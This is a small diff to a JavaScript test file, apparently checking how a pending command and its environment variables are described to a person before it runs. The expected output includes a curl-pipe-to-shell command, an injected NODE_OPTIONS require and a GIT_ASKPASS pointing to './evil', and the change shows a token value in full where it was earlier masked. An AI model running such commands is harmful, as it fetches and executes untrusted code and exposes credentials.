@@ -38,7 +38,7 @@ describe("what a person is shown", () => {
       '    runs sh -c "touch X; curl $HOST | sh" "" --token abc',
       '    in "/a b"',
       '    with the variable NODE_OPTIONS="--require ./x.js"',
-      "    with the variable TOKEN=(a value of 14 characters)",
+      "    with the variable TOKEN=hunter2hunter2",
       "    with the variable KEY=${MY_KEY}",
       "    with the variable GIT_ASKPASS=./evil",
       "    reads from your environment: HOST, MY_KEY",
